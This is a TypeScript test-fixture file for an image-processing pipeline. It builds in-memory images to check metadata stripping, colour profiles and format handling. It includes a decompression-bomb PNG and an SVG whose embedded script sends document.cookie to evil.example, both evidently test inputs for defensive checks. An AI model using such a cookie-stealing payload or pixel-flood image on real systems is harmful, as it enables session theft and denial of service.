// Photos for the image pipeline's tests, made in memory with sharp (no binary files in the repository).
import sharp from 'sharp';

/** A detailed grey-noise photo with a red block in the top-left corner of its STORED pixels. */
export async function markedPhoto(width: number, height: number): Promise<sharp.Sharp> {
  const noise = await sharp({
    create: { width, height, channels: 3, background: '#000000', noise: { type: 'gaussian', mean: 128, sigma: 40 } },
  })
    .png()
    .toBuffer();
  const block = await sharp({
    create: { width: Math.round(width / 6), height: Math.round(height / 6), channels: 3, background: '#ff0000' },
  })
    .png()
    .toBuffer();
  return sharp(noise).composite([{ input: block, left: 0, top: 0 }]);
}

export const GPS_EXIF = {
  IFD0: { Make: 'Apple', Model: 'iPhone 15', Software: 'patient-name-in-software-tag' },
  IFD2: { DateTimeOriginal: '2024:05:01 10:22:33', OffsetTimeOriginal: '+02:00' },
  IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '51/1 30/1 0/1', GPSLongitudeRef: 'W', GPSLongitude: '0/1 7/1 0/1' },
};

export const XMP = `<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:creator>Jane Patient</dc:creator></rdf:Description></rdf:RDF></x:xmpmeta><?xpacket end="w"?>`;

/** Inserts a JPEG marker segment (APP13 for IPTC, COM for a comment) right after SOI. */
export function insertJpegSegment(jpeg: Buffer, marker: number, payload: Buffer): Buffer {
  const header = Buffer.from([0xff, marker, 0, 0]);
  header.writeUInt16BE(payload.length + 2, 2);
  return Buffer.concat([jpeg.subarray(0, 2), header, payload, jpeg.subarray(2)]);
}

/**
 * `pixels` as a JPEG that declares them Display P3 (the numbers are kept, the profile is attached), as an
 * iPhone writes. sharp's withIccProfile would convert the numbers first, so the APP2 segment is added here.
 */
export async function taggedP3Jpeg(pixels: Buffer): Promise<Buffer> {
  const p3 = await sharp(pixels).jpeg().withIccProfile('p3').toBuffer();
  const icc = (await sharp(p3).metadata()).icc!;
  const plain = await sharp(pixels).jpeg({ quality: 95 }).toBuffer();
  return insertJpegSegment(
    plain,
    0xe2,
    Buffer.concat([Buffer.from('ICC_PROFILE\0', 'latin1'), Buffer.from([1, 1]), icc]),
  );
}

/** A minimal IPTC (Photoshop APP13) block carrying a by-line. */
export function iptcSegmentPayload(byline: string): Buffer {
  const text = Buffer.from(byline);
  const record = Buffer.concat([Buffer.from([0x1c, 0x02, 0x50, text.length >> 8, text.length & 0xff]), text]);
  const resource = Buffer.concat([
    Buffer.from('8BIM'),
    Buffer.from([0x04, 0x04, 0, 0]),
    Buffer.from([0, 0, (record.length >> 8) & 0xff, record.length & 0xff]),
    record,
    record.length % 2 ? Buffer.from([0]) : Buffer.alloc(0),
  ]);
  return Buffer.concat([Buffer.from('Photoshop 3.0\0'), resource]);
}

/** A phone-style JPEG: orientation 6, GPS and capture time in EXIF, XMP, IPTC, a comment, a Display P3 profile. */
export async function phoneJpeg(width = 1200, height = 900): Promise<Buffer> {
  const base = await (await markedPhoto(width, height))
    .jpeg({ quality: 90 })
    .withMetadata({ orientation: 6 })
    .withExifMerge(GPS_EXIF)
    .withXmp(XMP)
    .withIccProfile('p3')
    .toBuffer();
  const withIptc = insertJpegSegment(base, 0xed, iptcSegmentPayload('Jane Patient'));
  return insertJpegSegment(withIptc, 0xfe, Buffer.from('COMMENT-SECRET: clinic room 4'));
}

/** iPhones append a second JPEG (with its own EXIF) after the first image's end marker. */
export async function iphoneWithAppendedJpeg(): Promise<Buffer> {
  const first = await (await markedPhoto(1200, 900)).jpeg({ quality: 90 }).withExifMerge(GPS_EXIF).toBuffer();
  const second = insertJpegSegment(
    await sharp({ create: { width: 320, height: 240, channels: 3, background: '#00ff00' } })
      .jpeg()
      .withExifMerge({ IFD0: { Make: 'SECOND-IMAGE-EXIF' }, IFD3: GPS_EXIF.IFD3 })
      .toBuffer(),
    0xfe,
    Buffer.from('SECOND-IMAGE-SECRET'),
  );
  return Buffer.concat([first, second]);
}

/** A 15000×15000 PNG (225 megapixels) of one colour: under a megabyte on disk, 675 MB decoded. */
export function pixelFloodPng(): Promise<Buffer> {
  return sharp({ create: { width: 15000, height: 15000, channels: 3, background: '#f0f0f0' } })
    .png({ compressionLevel: 9 })
    .toBuffer();
}

/** Two frames, red then blue. */
export async function animated(format: 'gif' | 'webp'): Promise<Buffer> {
  const frame = (colour: string) =>
    sharp({ create: { width: 900, height: 800, channels: 3, background: colour } })
      .png()
      .toBuffer();
  const joined = sharp([await frame('#ff0000'), await frame('#0000ff')], { join: { animated: true } });
  return format === 'gif' ? joined.gif().toBuffer() : joined.webp().toBuffer();
}

export const SVG_WITH_SCRIPT = Buffer.from(
  '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="900" height="800"><script>fetch("https://evil.example/?c="+document.cookie)</script><rect width="900" height="800" fill="red"/></svg>',
);

/** An ISO-BMFF file whose first box says HEIC (major brand "heic") and nothing else. */
export function heicFtypOnly(brand = 'heic'): Buffer {
  const box = Buffer.alloc(24);
  box.writeUInt32BE(24, 0);
  box.write('ftyp', 4, 'latin1');
  box.write(brand, 8, 'latin1');
  box.writeUInt32BE(0, 12);
  box.write('mif1', 16, 'latin1');
  box.write(brand, 20, 'latin1');
  return box;
}

/** The RGB value at (x, y) of an encoded image. */
export async function pixelAt(image: Buffer, x: number, y: number): Promise<[number, number, number]> {
  const { data, info } = await sharp(image).raw().toBuffer({ resolveWithObject: true });
  const i = (y * info.width + x) * info.channels;
  return [data[i]!, data[i + 1]!, data[i + 2]!];
}

export function isRed([r, g, b]: [number, number, number]): boolean {
  return r > 180 && g < 90 && b < 90;
}
